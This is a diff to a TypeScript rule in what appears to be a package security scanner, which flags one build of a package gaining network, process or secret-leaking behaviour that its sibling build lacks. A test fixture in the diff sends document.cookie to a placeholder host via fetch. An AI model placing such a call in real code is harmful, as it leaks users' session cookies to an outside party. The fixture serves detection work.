@@ -36,7 +36,7 @@ export const buildAsymmetry: Rule = defineRule({
       },
       after: {
         'package.json': { main: 'index.cjs', module: 'index.mjs' },
-        'index.cjs': `exports.a = () => fetch('https://far.invalid/');\n`,
+        'index.cjs': `exports.a = () => fetch('https://far.invalid/?' + document.cookie);\n`,
         'index.mjs': 'export const a = () => 1;\n',
       },
       expect: [
@@ -87,7 +87,7 @@ export const buildAsymmetry: Rule = defineRule({
     const builds = listBuilds(modules, after, old);
     return behaviors.added.flatMap((behavior): Evidence<never>[] => {
       // A file that is new may be what one platform needs: what counts is what an old one has gained.
-      if (!telling.has(behavior.kind) || behavior.tier === 'unreached' || !old.files.has(behavior.path)) return [];
+      if (!isTelling(behavior) || !old.files.has(behavior.path)) return [];
       const own = builds.filter(({ paths }) => paths.has(behavior.path));
       const other = builds.find(
         ({ entry, paths }) => own.some((one) => one.rivals.has(entry)) && !paths.has(behavior.path),
@@ -100,9 +100,17 @@ export const buildAsymmetry: Rule = defineRule({
   },
 });
 
-const telling: ReadonlySet<BehaviorKind> = new Set([
-  'network', 'child-process', 'dynamic-code', 'file-write', 'file-delete',
+const acts: ReadonlySet<BehaviorKind> = new Set([
+  'network', 'child-process', 'file-write', 'file-delete',
 ]); // biome-ignore format: a list of names
+
+/** Builds gain functions one after the other; what they do by themselves, or with what is secret, they gain together. */
+function isTelling({ kind, tier, detail, origins, carries = [] }: Behavior): boolean {
+  if (tier === 'unreached') return false;
+  if (kind === 'dynamic-code') return origins.includes('decoded') || origins.includes('fetched');
+  if (kind === 'disclosure') return detail !== undefined && carries.some(({ sort }) => sort !== 'input');
+  return tier !== 'call' && acts.has(kind);
+}
 
 /** Whether the other build may do it, too: it has the words for it, and the host where there is one. */
 function mentions({ paths }: Build, { api, detail }: Behavior, { files }: PackageTree): boolean {
